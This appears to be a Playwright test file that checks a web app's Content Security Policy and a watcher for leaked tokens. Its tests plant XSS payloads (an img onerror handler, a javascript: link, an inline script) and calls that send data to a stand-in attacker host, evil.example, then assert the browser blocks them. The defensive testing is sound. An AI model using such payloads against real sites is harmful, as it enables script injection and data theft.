import { test as plain } from "@playwright/test";
import { expect, test } from "./app.ts";
import { watchTokens } from "./no-tokens.ts";

/** Pages that anyone may open; those of members and administrators have journeys of their own, under the same watch. */
const pages = ["/", "/help", "/help/hour-ending", "/ask", "/status", "/admin/login", "/login", "/signup", "/no/such/page"];

for (const path of pages) {
  test.describe(path, () => {
    test.use({ allowedErrors: [/status of 404|Content Security Policy|Refused to/i] });

    test("comes alive under its policy, which finds nothing to complain of", async ({ page }) => {
      const complaints: string[] = [];
      await page.exposeBinding("noteViolation", (_, text: string) => void complaints.push(text));
      await page.addInitScript(() => {
        document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sourceFile, lineNumber }) => {
          void (window as unknown as { noteViolation: (text: string) => Promise<void> }).noteViolation(`${violatedDirective} ${blockedURI} ${sourceFile}:${lineNumber}`);
        });
      });
      await page.goto(path, { waitUntil: "networkidle" });
      // What React has taken over knows its element.
      await expect.poll(() => page.evaluate(() => [...document.querySelectorAll("body *")].some((element) => Object.keys(element).some((key) => key.startsWith("__reactFiber"))))).toBe(true);
      expect(complaints).toEqual([]);

      const ran = await page.evaluate(() => {
        const script = document.createElement("div");
        script.innerHTML = '<img src="data:image/png,x" onerror="window.planted = 1"><a href="javascript:window.planted=1">x</a>';
        document.body.append(script);
        script.querySelector("a")?.click();
        const inline = document.createElement("script");
        inline.textContent = "window.planted = 1";
        document.body.insertAdjacentHTML("beforeend", inline.outerHTML);
        return new Promise((resume) => setTimeout(() => resume("planted" in window), 200));
      });
      expect(ran).toBe(false);
      expect(complaints.length).toBeGreaterThan(0);
    });
  });
}

test.describe("what is planted", () => {
  // Each complaint of the browser about what this test plants is an error in its console.
  test.use({ allowedErrors: [/Content Security Policy|Refused to/i] });
  test("scripts from elsewhere, frames and forms to elsewhere are refused", async ({ page }) => {
    await page.goto("/help");
    const refused = await page.evaluate(async () => {
      const directives: string[] = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => directives.push(effectiveDirective));
      const image = new Image();
      image.src = "https://evil.example/leak.png";
      await fetch("https://evil.example/leak").catch(() => undefined);
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/";
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      const object = document.createElement("object");
      object.data = "https://evil.example/x.swf";
      document.body.append(frame, object);
      document.head.append(base);
      await new Promise((resume) => setTimeout(resume, 300));
      return directives;
    });
    for (const directive of ["img-src", "connect-src", "frame-src", "object-src", "base-uri"]) expect(refused).toContain(directive);
  });
});

plain("the watch over tokens finds what it is there to find", async ({ page, context }) => {
  const token = `eyJ${"a".repeat(20)}.eyJ${"b".repeat(20)}.${"c".repeat(20)}`;
  await page.route("https://watch.test/**", (route) =>
    route.fulfill({ contentType: "text/html", headers: { "set-cookie": `s=${"d".repeat(30)}; HttpOnly` }, body: `<p>${route.request().url().includes("jwt") ? token : route.request().url().includes("cookie") ? "d".repeat(30) : "nothing"}</p>` }),
  );
  const { findings } = await watchTokens(page, context);
  await page.goto("https://watch.test/quiet");
  expect(await findings()).toEqual([]);
  await page.goto("https://watch.test/jwt");
  await page.goto("https://watch.test/cookie");
  await page.evaluate(() => localStorage.setItem("kept", "x"));
  expect(await findings()).toEqual(["a token in the body of https://watch.test/jwt", "a token in the body of https://watch.test/cookie", "kept in localStorage", "kept in localStorage"]);
});
